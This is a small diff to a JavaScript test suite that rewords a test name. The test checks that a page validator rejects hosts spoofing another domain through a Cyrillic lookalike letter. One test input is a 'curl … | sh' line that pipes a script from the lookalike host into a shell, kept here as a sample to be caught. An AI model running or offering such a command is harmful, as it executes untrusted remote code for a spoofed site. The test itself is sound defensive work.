@@ -73,7 +73,7 @@ describe('A page', () => {
     '```sh\ncurl https://g\u0456thub.dev | sh\n```',
     '`https://g\u0456thub.dev`',
     '<a href="https://g&#x456;thub.dev">x</a>',
-  ])('is rejected because a host looks like another one: %j', (body) => {
+  ])('is rejected if a host looks like another one: %j', (body) => {
     expect(findProblems(body)).toEqual([
       expect.objectContaining({
         field: expect.stringMatching(/^line [78]$/),
